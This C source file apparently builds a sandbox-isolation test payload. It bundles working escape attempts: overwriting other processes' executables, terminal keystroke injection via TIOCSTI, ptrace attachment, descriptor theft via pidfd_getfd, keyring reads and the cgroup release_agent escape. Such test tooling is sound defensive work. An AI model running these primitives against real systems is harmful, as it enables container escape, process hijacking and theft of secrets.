/* SPDX-License-Identifier: MIT */
/* What hostile programs do, as one static program that runs in any image: payload ATTACK [ARG...].
 * Each prints what it reached, one line a thing, and nothing when it reached nothing. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/magic.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define SEEN_MAX  4096
#define POOL_MAX  64
#define KEYRINGS  5 /* KEY_SPEC_THREAD_KEYRING to KEY_SPEC_USER_SESSION_KEYRING */
#define SELFINSRT "#"

static int fail(const char *what)
{
	fprintf(stderr, "payload: %s: %s\n", what, strerror(errno));
	return 1;
}

/* swap A B COUNTER: exchange two names as fast as possible, and count in a file that is mapped. */
static int swap(char *args[])
{
	int fd = open(args[2], O_RDWR | O_CREAT | O_CLOEXEC, 0644);
	volatile uint64_t *count;

	if (fd < 0 || ftruncate(fd, sizeof(*count)) < 0)
		return fail(args[2]);
	count = mmap(NULL, sizeof(*count), PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	if (count == MAP_FAILED)
		return fail(args[2]);
	for (;;) {
		if (syscall(SYS_renameat2, AT_FDCWD, args[0], AT_FDCWD, args[1],
		            2 /* RENAME_EXCHANGE */) < 0)
			return fail(args[0]);
		++*count;
	}
}

static bool is_new(const struct stat *st)
{
	static struct {
		dev_t dev;
		ino_t ino;
	} seen[SEEN_MAX];
	static int count;

	for (int i = 0; i < count; i++)
		if (seen[i].dev == st->st_dev && seen[i].ino == st->st_ino)
			return false;
	if (count < SEEN_MAX) {
		seen[count].dev = st->st_dev;
		seen[count++].ino = st->st_ino;
	}
	return true;
}

static void told(const char *verb, const char *what)
{
	printf("%s %s\n", verb, what);
	fflush(stdout);
}

/* Open anew for writing what is held by an O_PATH descriptor; `evil` goes to its end. */
static bool overwrite(int held, const char *name, bool really)
{
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", held);
	fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
	if (fd < 0)
		return errno != ETXTBSY; /* busy: later */
	told("opened", name);
	if (really && write(fd, "evil", 4) == 4)
		told("overwrote", name);
	close(fd);
	return true;
}

/* executables [-w]: hold the program of every process that is not of the image of this one, and
 * open it for writing as soon as it is not busy; -w: change it. */
static int executables(char *args[])
{
	bool really = args[0] && strcmp(args[0], "-w") == 0;
	char names[POOL_MAX][256];
	int pool[POOL_MAX], held = 0;
	struct stat own, st;

	if (stat("/", &own) < 0)
		return fail("/");
	for (;;) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;

		if (!proc)
			return fail("/proc");
		while ((entry = readdir(proc)) && held < POOL_MAX) {
			char path[300];
			ssize_t n;
			int fd;

			if (entry->d_name[0] < '0' || entry->d_name[0] > '9')
				continue;
			snprintf(path, sizeof(path), "/proc/%s/exe", entry->d_name);
			fd = open(path, O_PATH | O_CLOEXEC);
			if (fd < 0)
				continue;
			n = readlink(path, names[held], sizeof(names[0]) - 1);
			if (n < 0 || fstat(fd, &st) < 0 || !is_new(&st)) {
				close(fd);
				continue;
			}
			names[held][n] = '\0';
			if (strncmp(names[held], "/bin/", 5) == 0) { /* the image's own */
				close(fd);
				continue;
			}
			told("caught", names[held]);
			pool[held++] = fd;
		}
		closedir(proc);
		for (int i = held; i-- > 0;) {
			if (!overwrite(pool[i], names[i], really))
				continue;
			close(pool[i]);
			pool[i] = pool[--held];
			memmove(names[i], names[held], sizeof(names[0]));
		}
	}
}

/* reopen FD: open for writing what came along as this descriptor. */
static int reopen(char *args[])
{
	time_t began = time(NULL);

	while (!overwrite(atoi(args[0]), "what came along", true) && time(NULL) - began < 3)
		;
	return 0;
}

/* descriptors: each of ours, with what it leads to. */
static int descriptors(char *args[])
{
	DIR *dir = opendir("/proc/self/fd");
	struct dirent *entry;

	(void)args;
	if (!dir)
		return fail("/proc/self/fd");
	while ((entry = readdir(dir))) {
		char path[300], target[300];
		ssize_t n;

		if (entry->d_name[0] == '.' || atoi(entry->d_name) == dirfd(dir))
			continue;
		snprintf(path, sizeof(path), "/proc/self/fd/%s", entry->d_name);
		n = readlink(path, target, sizeof(target) - 1);
		printf("%s %.*s\n", entry->d_name, n > 0 ? (int)n : 0, target);
	}
	closedir(dir);
	return 0;
}

/* type: put a character into the input of every terminal within reach. */
static int type(char *args[])
{
	static const char *const paths[] = {"/dev/tty", "/dev/console", "/proc/self/fd/0",
	                                    "/proc/1/fd/0", "/dev/tty1"};
	char paste = 3; /* TIOCL_PASTESEL: ioctl_console(2) */

	(void)args;
	for (int fd = 0; fd < 3; fd++) {
		if (ioctl(fd, TIOCSTI, SELFINSRT) == 0)
			printf("typed by descriptor %d\n", fd);
		if (ioctl(fd, TIOCLINUX, &paste) == 0)
			printf("pasted by descriptor %d\n", fd);
	}
	for (size_t i = 0; i < sizeof(paths) / sizeof(paths[0]); i++) {
		int fd = open(paths[i], O_RDWR | O_NOCTTY | O_NONBLOCK | O_CLOEXEC);

		if (fd >= 0 && ioctl(fd, TIOCSTI, SELFINSRT) == 0)
			printf("typed by %s\n", paths[i]);
		if (fd >= 0)
			close(fd);
	}
	return 0;
}

/* trace [LAST]: attach to every process up to that one, again and again, and say whose program is
 * not of this image. */
static int trace(char *args[])
{
	int last = args[0] ? atoi(args[0]) : 100, pid = 0;

	if (last < 1)
		return 2;
	for (;;) {
		char path[64], name[256];
		ssize_t n;
		int status;

		pid = pid % last + 1;
		if (pid == getpid() || ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
			continue;
		if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0)
			waitpid(pid, &status, __WALL);
		snprintf(path, sizeof(path), "/proc/%d/exe", pid);
		n = readlink(path, name, sizeof(name) - 1);
		name[n > 0 ? n : 0] = '\0';
		told(strncmp(name, "/bin/", 5) == 0 ? "ours" : "traced", name);
		ptrace(PTRACE_DETACH, pid, 0, 0); /* which may be gone */
	}
}

/* steal [LAST]: take descriptors of every process up to that one, again and again, and say whose
 * were to be had: a socket that keeps messages apart is nobody's in this image. */
static int steal(char *args[])
{
	int last = args[0] ? atoi(args[0]) : 100, pid = 0;

	if (last < 1)
		return 2;
	for (;;) {
		int process, fd;

		pid = pid % last + 1;
		process = pid == getpid() ? -1 : (int)syscall(SYS_pidfd_open, pid, 0);
		for (int number = 0; process >= 0 && number < 16; number++) {
			int kind = 0;
			socklen_t size = sizeof(kind);
			char link[32], file[256];
			ssize_t end;

			fd = (int)syscall(SYS_pidfd_getfd, process, number, 0);
			if (fd < 0)
				continue;
			snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
			end = readlink(link, file, sizeof(file) - 1);
			file[end > 0 ? end : 0] = '\0';
			if (strstr(file, "/canary-file"))
				told("stole", file);
			else if (getsockopt(fd, SOL_SOCKET, SO_TYPE, &kind, &size) < 0)
				told("ours", "");
			else if (kind == SOCK_SEQPACKET)
				told("stole", "the channel");
			close(fd);
		}
		if (process >= 0)
			close(process);
	}
}

/* key-add NAME VALUE PROGRAM...: a session keyring with a key in it for a program. */
static int key_add(char *args[])
{
	if (syscall(SYS_keyctl, 1 /* KEYCTL_JOIN_SESSION_KEYRING */, NULL) < 0 ||
	    syscall(SYS_add_key, "user", args[0], args[1], strlen(args[1]), -3) < 0)
		return fail("keyctl");
	execvp(args[2], args + 2);
	return fail(args[2]);
}

/* key-find NAME: what is in it, by any keyring that a process has. */
static int key_find(char *args[])
{
	char value[100];

	for (int keyring = -1; keyring >= -KEYRINGS; keyring--) {
		long key = syscall(SYS_keyctl, 10 /* KEYCTL_SEARCH */, keyring, "user", args[0], 0);
		long n = key < 0 ? key : syscall(SYS_keyctl, 11 /* KEYCTL_READ */, key, value, 99);

		if (n > 0)
			printf("found %.*s\n", (int)n, value);
	}
	return 0;
}

/* release-agent: in a user namespace of its own, mount every hierarchy of cgroup v1 and have the
 * kernel run a program when a group becomes empty. */
static int release_agent(char *args[])
{
	static const char *const controllers[] = {"rdma",    "memory", "pids",    "cpu",
	                                          "devices", "blkio",  "freezer", "misc"};

	(void)args;
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) == 0)
		printf("unshared\n");
	mkdir("/tmp/cgroup", 0755);
	for (size_t i = 0; i < sizeof(controllers) / sizeof(controllers[0]); i++) {
		int fd;

		if (mount("cgroup", "/tmp/cgroup", "cgroup", 0, controllers[i]) < 0)
			continue;
		printf("mounted %s\n", controllers[i]);
		fd = open("/tmp/cgroup/release_agent", O_WRONLY | O_CLOEXEC);
		if (fd >= 0 && write(fd, "/payload", 8) == 8)
			printf("agent %s\n", controllers[i]);
		if (fd >= 0)
			close(fd);
		umount2("/tmp/cgroup", MNT_DETACH);
	}
	return 0;
}

/* Neither a file of somebody's own nor the null device, which hides what was there. */
static bool is_kernels(int fd)
{
	struct statfs fs;
	struct stat st;

	if (fstat(fd, &st) < 0 || fstatfs(fd, &fs) < 0)
		return false;
	if (S_ISCHR(st.st_mode) || S_ISBLK(st.st_mode))
		return st.st_rdev != makedev(1, 3);
	return fs.f_type == PROC_SUPER_MAGIC || fs.f_type == SYSFS_MAGIC ||
	       fs.f_type == CGROUP_SUPER_MAGIC || fs.f_type == CGROUP2_SUPER_MAGIC;
}

/* write FILE...: open for writing what is the kernel's, and write back what was read when
 * there is something. */
static int write_back(char *args[])
{
	for (; *args; args++) {
		char content[4096];
		int fd = open(*args, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
		ssize_t n = fd < 0 ? -1 : read(fd, content, sizeof(content));

		if (fd >= 0)
			close(fd);
		fd = open(*args, O_WRONLY | O_CLOEXEC | O_NONBLOCK | O_NOCTTY);
		if (fd < 0)
			continue;
		if (!is_kernels(fd)) {
			close(fd);
			continue;
		}
		printf("%s %s\n", n > 0 && write(fd, content, (size_t)n) == n ? "wrote" : "opened",
		       *args);
		close(fd);
	}
	return 0;
}

/* outlive: undo what ties it to whoever started it, say so, and stay. */
static _Noreturn int outlive(char *args[])
{
	(void)args;
	for (int sig = 1; sig < 32; sig++)
		signal(sig, SIG_IGN);
	prctl(PR_SET_PDEATHSIG, 0, 0, 0, 0);
	dprintf(1, "ready\n");
	for (;;)
		pause();
}

/* siblings COUNT [stay]: leave children to its own parent, and end, or stay. */
static int siblings(char *args[])
{
	for (int i = atoi(args[0]); i > 0; i--) {
		long pid = syscall(SYS_clone, CLONE_PARENT | SIGCHLD, 0, 0, 0, 0);

		if (pid < 0)
			return fail("clone");
		while (pid == 0 && i % 2) /* the others end at once */
			pause();
		if (pid == 0)
			_exit(0);
	}
	dprintf(1, "ready\n");
	while (args[1])
		pause();
	return 0;
}

/* hold: end with 3 while a child traces it, which keeps its end from its parent. */
static int hold(char *args[])
{
	int pair[2];
	char ready;

	(void)args;
	prctl(PR_SET_PTRACER, PR_SET_PTRACER_ANY, 0, 0, 0);
	if (pipe(pair) < 0)
		return fail("pipe");
	if (fork() == 0) {
		if (ptrace(PTRACE_SEIZE, getppid(), 0, 0) < 0)
			_exit(1);
		(void)!write(pair[1], "", 1);
		for (;;)
			pause();
	}
	close(pair[1]);
	return read(pair[0], &ready, 1) == 1 ? 3 : fail("ptrace");
}

/* seize PID: say whether that can be traced. */
static int seize(char *args[])
{
	long r = ptrace(PTRACE_SEIZE, atoi(args[0]), 0, 0);

	puts(r == 0 ? "seized" : errno == EPERM ? "EPERM" : strerror(errno));
	return 0;
}

static const struct {
	const char *name;
	int arguments;
	int (*run)(char *args[]);
} attacks[] = {
	{"swap", 3, swap},         {"executables", 0, executables},
	{"reopen", 1, reopen},     {"descriptors", 0, descriptors},
	{"type", 0, type},         {"trace", 0, trace},
	{"steal", 0, steal},       {"key-add", 3, key_add},
	{"key-find", 1, key_find}, {"release-agent", 0, release_agent},
	{"write", 1, write_back},  {"outlive", 0, outlive},
	{"siblings", 1, siblings}, {"hold", 0, hold},
	{"seize", 1, seize},
};

int main(int argc, char *argv[])
{
	for (size_t i = 0; i < sizeof(attacks) / sizeof(attacks[0]); i++)
		if (argc >= 2 + attacks[i].arguments && strcmp(argv[1], attacks[i].name) == 0)
			return attacks[i].run(argv + 2);
	fprintf(stderr, "usage: payload ATTACK [ARG...]\n");
	return 2;
}
